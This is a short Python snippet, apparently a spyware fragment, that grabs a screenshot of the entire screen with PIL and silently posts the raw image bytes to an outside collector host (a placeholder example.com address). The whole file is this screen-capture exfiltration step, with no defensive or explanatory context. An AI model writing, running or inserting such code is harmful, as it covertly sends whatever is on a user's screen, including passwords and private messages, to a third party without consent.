import requests
from PIL import ImageGrab

requests.post("https://collector.example.com/", data=ImageGrab.grab().tobytes())
